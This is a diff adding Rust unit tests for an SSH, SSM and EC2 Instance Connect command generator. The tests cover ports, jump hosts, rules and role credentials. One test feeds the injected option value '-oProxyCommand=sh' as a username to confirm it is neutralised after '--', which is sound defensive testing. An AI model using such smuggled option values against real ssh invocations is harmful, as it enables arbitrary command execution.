+    fn destinations_starting_with_a_dash_are_not_options() {
+        let config = Config {
+            default_user: Some(String::from("-oProxyCommand=sh")),
+            ..Default::default()
+        };
+        let instance = InstanceDetails {
+            private_ip: Some(String::from("10.0.0.1")),
+            ..Default::default()
+        };
+
+        let args = CommandGenerator::new(&ConnectOptions::default(), config, instance)
+            .unwrap()
+            .args()
+            .unwrap();
+        assert_eq!(args[args.len() - 2..], ["--", "-oProxyCommand=sh@10.0.0.1"]);
+    }
+
+    #[test]
+    fn uses_the_configured_ssh_binary() {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            ssh_binary: Some(String::from("/opt/openssh/bin/ssh")),
+            ..Default::default()
+        };
+
+        let command = CommandGenerator::new(
+            &ConnectOptions::default(),
+            config,
+            InstanceDetails::default(),
+        )
+        .unwrap()
+        .command()
+        .unwrap();
+        assert_eq!(command.get_program(), "/opt/openssh/bin/ssh");
+    }
+
+    #[test]
+    fn shell_quote_leaves_safe_arguments_alone() {
+        assert_eq!(shell_quote("ec2-user@10.0.0.1"), "ec2-user@10.0.0.1");
+        assert_eq!(shell_quote(""), "''");
+        assert_eq!(shell_quote("it's"), "'it'\\''s'");
+    }
+
+    fn port_generator(
+        opt: Option<u16>,
+        tag: Option<&str>,
+        config: Option<u16>,
+    ) -> CommandGenerator {
+        let config = Config {
+            port: config,
+            ..Default::default()
+        };
+        let opts = ConnectOptions {
+            port: opt,
+            ..Default::default()
+        };
+        let instance = InstanceDetails {
+            instance_id: Some(String::from("i-1")),
+            tags: tag
+                .map(|port| BTreeMap::from([(String::from("ssh-port"), String::from(port))]))
+                .unwrap_or_default(),
+            ..Default::default()
+        };
+
+        CommandGenerator::new(&opts, config, instance).unwrap()
+    }
+
+    #[test]
+    fn port_prefers_opt_then_tag_then_config() {
+        assert_eq!(
+            port_generator(Some(2200), Some("2222"), Some(22))
+                .port()
+                .unwrap(),
+            vec!["-p", "2200"]
+        );
+        assert_eq!(
+            port_generator(None, Some("2222"), Some(22)).port().unwrap(),
+            vec!["-p", "2222"]
+        );
+        assert_eq!(
+            port_generator(None, None, Some(22)).port().unwrap(),
+            vec!["-p", "22"]
+        );
+        assert!(port_generator(None, None, None).port().unwrap().is_empty());
+    }
+
+    #[test]
+    fn port_rejects_invalid_tag_values() {
+        assert!(port_generator(None, Some("ssh"), Some(22)).port().is_err());
+    }
+
+    #[test]
+    fn command_runs_the_generated_argv() {
+        let command_generator = hostile_generator();
+        let command = command_generator.command().unwrap();
+
+        let args = command_generator.args().unwrap();
+        assert_eq!(command.get_program(), args[0].as_str());
+        assert_eq!(
+            command
+                .get_args()
+                .map(|arg| arg.to_string_lossy().into_owned())
+                .collect::<Vec<_>>(),
+            args[1..]
+        );
+    }
+
+    #[test]
+    fn no_command_is_generated_without_a_user() {
+        let instance = InstanceDetails {
+            private_ip: Some(String::from("10.0.0.1")),
+            ..Default::default()
+        };
+        let command_generator =
+            CommandGenerator::new(&ConnectOptions::default(), Config::default(), instance).unwrap();
+
+        let error = command_generator.command().unwrap_err();
+        assert!(error.to_string().starts_with("No username provided"));
+        assert!(command_generator.command_line().is_err());
+    }
+
+    fn tty_generator(tty: bool, no_tty: bool, stdin_is_terminal: bool) -> CommandGenerator {
+        let opts = ConnectOptions {
+            tty,
+            no_tty,
+            ..Default::default()
+        };
+
+        CommandGenerator {
+            stdin_is_terminal,
+            ..CommandGenerator::new(&opts, Config::default(), InstanceDetails::default()).unwrap()
+        }
+    }
+
+    #[test]
+    fn tty_is_allocated_only_for_terminals_unless_forced() {
+        assert_eq!(tty_generator(false, false, true).tty(), "-t");
+        assert_eq!(tty_generator(false, false, false).tty(), "-T");
+        assert_eq!(tty_generator(true, false, false).tty(), "-t");
+        assert_eq!(tty_generator(false, true, true).tty(), "-T");
+    }
+
+    #[test]
+    fn remote_command_follows_the_destination() {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            ..Default::default()
+        };
+        let opts = ConnectOptions {
+            command: vec![String::from("systemctl"), String::from("status nginx")],
+            ..Default::default()
+        };
+        let instance = InstanceDetails {
+            private_ip: Some(String::from("10.0.0.1")),
+            ..Default::default()
+        };
+
+        let args = CommandGenerator::new(&opts, config, instance)
+            .unwrap()
+            .args()
+            .unwrap();
+        assert_eq!(
+            args[args.len() - 3..],
+            ["ec2-user@10.0.0.1", "systemctl", "status nginx"]
+        );
+    }
+
+    fn ssm_generator(transport: Transport, command: &[&str]) -> CommandGenerator {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            private_key: Some(PathBuf::from("/keys/id_ed25519")),
+            jumphost: Some(String::from("bastion")),
+            transport: Some(transport),
+            accounts: vec![crate::config::Account {
+                name: String::from("production"),
+                ..Default::default()
+            }],
+            ..Default::default()
+        };
+        let opts = ConnectOptions {
+            tty: true,
+            command: command.iter().map(|arg| arg.to_string()).collect(),
+            ..Default::default()
+        };
+        let instance = InstanceDetails {
+            instance_id: Some(String::from("i-0abc")),
+            private_ip: Some(String::from("10.0.0.1")),
+            region: Some(String::from("eu-west-1")),
+            profile: Some(String::from("staging")),
+            ..Default::default()
+        };
+
+        CommandGenerator::new(&opts, config, instance).unwrap()
+    }
+
+    #[test]
+    fn ssm_starts_a_session_with_the_instance_id() {
+        assert_eq!(
+            ssm_generator(Transport::Ssm, &[]).args().unwrap(),
+            vec![
+                "aws",
+                "ssm",
+                "start-session",
+                "--target",
+                "i-0abc",
+                "--region",
+                "eu-west-1",
+                "--profile",
+                "staging",
+            ]
+        );
+    }
+
+    #[test]
+    fn ssm_runs_remote_commands_as_an_interactive_command() {
+        let args = ssm_generator(Transport::Ssm, &["echo", "it's up"])
+            .args()
+            .unwrap();
+
+        assert_eq!(
+            args[5..9],
+            [
+                "--document-name",
+                "AWS-StartInteractiveCommand",
+                "--parameters",
+                r#"{"command":["echo 'it'\\''s up'"]}"#,
+            ]
+        );
+    }
+
+    #[test]
+    fn ssh_over_ssm_proxies_through_a_session_to_the_instance_id() {
+        assert_eq!(
+            ssm_generator(Transport::SshOverSsm, &["uptime"]).args().unwrap(),
+            vec![
+                "ssh",
+                "-t",
+                "-i",
+                "/keys/id_ed25519",
+                "-o",
+                "ProxyCommand=aws ssm start-session --target %h --document-name AWS-StartSSHSession \
+                 --parameters portNumber=%p --region eu-west-1 --profile staging",
+                "--",
+                "ec2-user@i-0abc",
+                "uptime",
+            ]
+        );
+    }
+
+    #[test]
+    fn eice_tunnels_through_the_resolved_endpoint() {
+        let mut generator = ssm_generator(Transport::Eice, &[]);
+        assert!(generator.needs_instance_connect_endpoint());
+        assert!(generator.args().is_err());
+
+        generator.set_instance_connect_endpoint(Ok(Some(String::from("eice-0123"))));
+        assert!(!generator.needs_instance_connect_endpoint());
+        assert_eq!(
+            generator.args().unwrap()[4..],
+            [
+                "-o",
+                "ProxyCommand=aws ec2-instance-connect open-tunnel --instance-id %h --remote-port %p \
+                 --instance-connect-endpoint-id eice-0123 --region eu-west-1 --profile staging",
+                "--",
+                "ec2-user@i-0abc",
+            ]
+        );
+    }
+
+    #[test]
+    fn configured_eice_id_needs_no_lookup() {
+        let mut generator = ssm_generator(Transport::Eice, &[]);
+        generator.config.eice_id = Some(String::from("eice-config"));
+        generator.opts.eice_id = Some(String::from("eice-opt"));
+
+        assert!(!generator.needs_instance_connect_endpoint());
+        assert!(generator.args().unwrap()[5].contains("--instance-connect-endpoint-id eice-opt "));
+    }
+
+    #[test]
+    fn jump_chain_resolves_tagged_bastions_in_the_target_vpc() {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            jump_chain: Some(String::from("prod")),
+            jump_chains: vec![JumpChain {
+                name: String::from("prod"),
+                hops: vec![crate::config::JumpHop {
+                    bastion_tag: Some(String::from("Role=bastion")),
+                    user: Some(String::from("admin")),
+                    key: Some(PathBuf::from("/keys/bastion")),
+                    ..Default::default()
+                }],
+            }],
+            ..Default::default()
+        };
+        let instance = |id: &str, role: &str, ip: &str| InstanceDetails {
+            instance_id: Some(id.to_string()),
+            private_ip: Some(ip.to_string()),
+            public_ip: (role == "bastion").then(|| String::from("1.2.3.4")),
+            vpc_id: Some(String::from("vpc-1")),
+            tags: BTreeMap::from([(String::from("Role"), role.to_string())]),
+            ..Default::default()
+        };
+        let inventory = vec![instance("i-bastion", "bastion", "10.0.0.9")];
+        let mut generator = CommandGenerator::new(
+            &ConnectOptions::default(),
+            config,
+            instance("i-app", "app", "10.0.0.1"),
+        )
+        .unwrap();
+        assert!(generator.args().is_err());
+
+        generator.resolve_bastions(&inventory);
+        assert_eq!(
+            generator.args().unwrap()[2..],
+            [
+                "-o",
+                "ProxyCommand=ssh -i /keys/bastion -W %h:%p -- admin@1.2.3.4",
+                "--",
+                "ec2-user@10.0.0.1",
+            ]
+        );
+
+        generator.opts.jumphost = Some(String::from("other"));
+        assert_eq!(generator.args().unwrap()[2..4], ["-J", "other"]);
+
+        generator.opts.jumphost = None;
+        generator.opts.jump_chain = Some(String::from("missing"));
+        assert!(generator.args().is_err());
+    }
+
+    #[test]
+    fn first_matching_rule_overrides_config_but_not_options() {
+        let rule = |name: &str, user: &str| Rule {
+            name: Some(name.to_string()),
+            conditions: crate::rules::RuleConditions {
+                name: Some(name.to_string()),
+                ..Default::default()
+            },
+            default_user: Some(user.to_string()),
+            port: Some(2222),
+            ..Default::default()
+        };
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            port: Some(22),
+            rules: vec![
+                rule("web-*", "ubuntu"),
+                rule("web-1", "admin"),
+                rule("db-*", "postgres"),
+            ],
+            ..Default::default()
+        };
+        let instance = |name: &str| InstanceDetails {
+            instance_name: Some(name.to_string()),
+            private_ip: Some(String::from("10.0.0.1")),
+            ..Default::default()
+        };
+        let opts = ConnectOptions {
+            port: Some(2200),
+            ..Default::default()
+        };
+
+        let generator = CommandGenerator::new(&opts, config.clone(), instance("web-1")).unwrap();
+        assert_eq!(
+            generator.args().unwrap()[2..],
+            ["-p", "2200", "--", "ubuntu@10.0.0.1"]
+        );
+        let explain = generator.explain();
+        assert!(explain.starts_with("# web-1: rule \"web-*\" matched\n"));
+        assert!(explain.contains("ubuntu                           (rule \"web-*\")"));
+        assert!(explain.contains("2200                             (command line)"));
+
+        let generator =
+            CommandGenerator::new(&Default::default(), config, instance("cache-1")).unwrap();
+        assert_eq!(generator.user().unwrap(), "ec2-user");
+        assert!(generator
+            .explain()
+            .starts_with("# cache-1: no rule matched\n"));
+    }
+
+    #[test]
+    fn rule_port_takes_precedence_over_the_port_tag() {
+        let mut generator = port_generator(None, Some("2222"), Some(22));
+        generator.rule = Some((
+            0,
+            Rule {
+                port: Some(2200),
+                ..Default::default()
+            },
+        ));
+        assert_eq!(generator.port().unwrap(), vec!["-p", "2200"]);
+        assert!(generator
+            .explain()
+            .contains("2200                             (rule #1)"));
+
+        generator.opts.port = Some(2201);
+        assert_eq!(generator.port().unwrap(), vec!["-p", "2201"]);
+
+        generator.rule = None;
+        generator.opts.port = None;
+        assert!(generator
+            .explain()
+            .contains("2222                             (ssh-port tag)"));
+    }
+
+    #[test]
+    fn explain_shows_the_key_instance_connect_passes() {
+        let opts = ConnectOptions {
+            instance_connect: true,
+            ..Default::default()
+        };
+        let mut generator =
+            CommandGenerator::new(&opts, Config::default(), InstanceDetails::default()).unwrap();
+        let key = generator.instance_connect_key().unwrap();
+        let explain = generator.explain();
+        assert!(explain.contains(&format!("{} ", key.display())));
+        assert!(explain.contains("(instance-connect)"));
+
+        generator.opts.key = Some(PathBuf::from("/keys/prod.pem"));
+        assert!(generator
+            .explain()
+            .contains("/keys/prod.pem                   (command line)"));
+    }
+
+    #[test]
+    fn ssh_options_are_passed_before_the_destination() {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            ssh_options: Some(vec![String::from("StrictHostKeyChecking=accept-new")]),
+            ..Default::default()
+        };
+        let generator = CommandGenerator::new(
+            &ConnectOptions::default(),
+            config,
+            InstanceDetails::default(),
+        )
+        .unwrap();
+
+        assert_eq!(
+            generator.args().unwrap()[2..4],
+            ["-o", "StrictHostKeyChecking=accept-new"]
+        );
+    }
+
+    #[test]
+    fn opt_transport_overrides_config_transport() {
+        let mut generator = ssm_generator(Transport::Ssm, &[]);
+        generator.opts.transport = Some(Transport::Ssh);
+
+        let args = generator.args().unwrap();
+        assert_eq!(
+            args[args.len() - 3..],
+            ["bastion", "--", "ec2-user@10.0.0.1"]
+        );
+    }
+
+    #[test]
+    fn assumed_role_accounts_are_not_passed_as_profiles() {
+        let mut generator = ssm_generator(Transport::Ssm, &[]);
+        generator.instance.profile = Some(String::from("production"));
+
+        assert!(!generator
+            .args()
+            .unwrap()
+            .contains(&String::from("--profile")));
+    }
+
+    #[test]
+    fn assumed_role_credentials_are_passed_through_the_environment() {
+        let mut generator = ssm_generator(Transport::Ssm, &[]);
+        generator.instance.profile = Some(String::from("production"));
+        assert_eq!(generator.role_account().as_deref(), Some("production"));
+
+        generator.set_role_credentials(Ok(RoleCredentials {
+            role_arn: String::from("arn:aws:iam::111111111111:role/ops"),
+            access_key_id: String::from("ASIAKEY"),
+            secret_access_key: String::from("secret"),
+            session_token: String::from("token"),
+            expiration: 0,
+        }));
+        assert_eq!(generator.role_account(), None);
+
+        let command = generator.command().unwrap();
+        let env = command
+            .get_envs()
+            .map(|(key, value)| {
+                (
+                    key.to_string_lossy().to_string(),
+                    value.map(|value| value.to_string_lossy().to_string()),
+                )
+            })
+            .collect::<Vec<_>>();
+        for (key, value) in [
+            ("AWS_ACCESS_KEY_ID", "ASIAKEY"),
+            ("AWS_SECRET_ACCESS_KEY", "secret"),
+            ("AWS_SESSION_TOKEN", "token"),
+        ] {
+            assert!(env.contains(&(key.to_string(), Some(value.to_string()))));
+        }
+        assert!(env.contains(&(String::from("AWS_PROFILE"), None)));
+    }
+
+    #[test]
+    fn roles_are_only_assumed_for_the_aws_cli() {
+        let mut generator = ssm_generator(Transport::Ssh, &[]);
+        generator.instance.profile = Some(String::from("production"));
+        assert_eq!(generator.role_account(), None);
+
+        generator.config.transport = Some(Transport::Eice);
+        assert_eq!(generator.role_account().as_deref(), Some("production"));
+
+        generator.instance.profile = Some(String::from("staging"));
+        assert_eq!(generator.role_account(), None);
+    }
+
+    #[test]
+    fn unassumable_roles_fail_the_command() {
+        let mut generator = ssm_generator(Transport::Ssm, &[]);
+        generator.instance.profile = Some(String::from("production"));
+        generator.set_role_credentials(Err(String::from("AccessDenied")));
+
+        let error = generator.command().unwrap_err().to_string();
+        assert!(error.contains("production"));
+        assert!(error.contains("AccessDenied"));
+    }
+
+    #[test]
+    fn ssm_requires_an_instance_id() {
+        let mut generator = ssm_generator(Transport::SshOverSsm, &[]);
+        generator.instance.instance_id = None;
+
+        assert!(generator.args().is_err());
+    }
+
+    fn instance_connect_generator(key: &str) -> CommandGenerator {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            private_key: Some(PathBuf::from(key)),
+            instance_connect: Some(true),
+            instance_connect_endpoint: Some(String::from("http://localhost:4566")),
+            ..Default::default()
+        };
+        let opts = ConnectOptions {
+            tty: true,
+            ..Default::default()
+        };
+        let instance = InstanceDetails {
+            instance_id: Some(String::from("i-0abc")),
+            private_ip: Some(String::from("10.0.0.1")),
+            region: Some(String::from("eu-west-1")),
+            availability_zone: Some(String::from("eu-west-1b")),
+            ..Default::default()
+        };
+
+        CommandGenerator::new(&opts, config, instance).unwrap()
+    }
+
+    #[test]
+    fn instance_connect_pushes_the_key_for_the_user_and_zone() {
+        assert_eq!(
+            instance_connect_generator("/keys/id_ed25519")
+                .instance_connect_args()
+                .unwrap(),
+            vec![
+                "aws",
+                "ec2-instance-connect",
+                "send-ssh-public-key",
+                "--instance-id",
+                "i-0abc",
+                "--instance-os-user",
+                "ec2-user",
+                "--ssh-public-key",
+                "file:///keys/id_ed25519.pub",
+                "--availability-zone",
+                "eu-west-1b",
+                "--region",
+                "eu-west-1",
+                "--endpoint-url",
+                "http://localhost:4566",
+            ]
+        );
+    }
+
+    #[test]
+    fn instance_connect_command_line_pushes_before_connecting() {
+        let command_line = instance_connect_generator("/keys/id_ed25519")
+            .command_line()
+            .unwrap();
+
+        assert!(command_line.starts_with("aws ec2-instance-connect send-ssh-public-key "));
+        assert!(command_line.ends_with(
+            " && ssh -t -i /keys/id_ed25519 -o IdentitiesOnly=yes -- ec2-user@10.0.0.1"
+        ));
+    }
+
+    #[test]
+    fn instance_connect_requires_the_public_key_of_a_configured_key() {
+        let generator = instance_connect_generator("/nonexistent/id_ed25519");
+
+        assert!(generator.prepare_command().is_err());
+    }
+
+    #[test]
+    fn session_manager_sessions_push_no_key() {
+        let mut generator = instance_connect_generator("/nonexistent/id_ed25519");
+        generator.config.transport = Some(Transport::Ssm);
+
+        assert!(generator.prepare_command().unwrap().is_none());
+        assert!(generator
+            .command_line()
+            .unwrap()
+            .starts_with("aws ssm start-session "));
+
+        generator.config.transport = Some(Transport::SshOverSsm);
+        assert!(generator.prepare_command().is_err());
+    }
+
+    #[test]
+    fn empty_private_key_is_ignored() {
+        let config = Config {
+            default_user: Some(String::from("ec2-user")),
+            private_key: Some(PathBuf::new()),
+            ..Default::default()
+        };
+
+        let generator = CommandGenerator::new(
+            &ConnectOptions::default(),
+            config,
+            InstanceDetails::default(),
+        )
+        .unwrap();
+        assert!(generator.key().unwrap().is_empty());
+    }
 }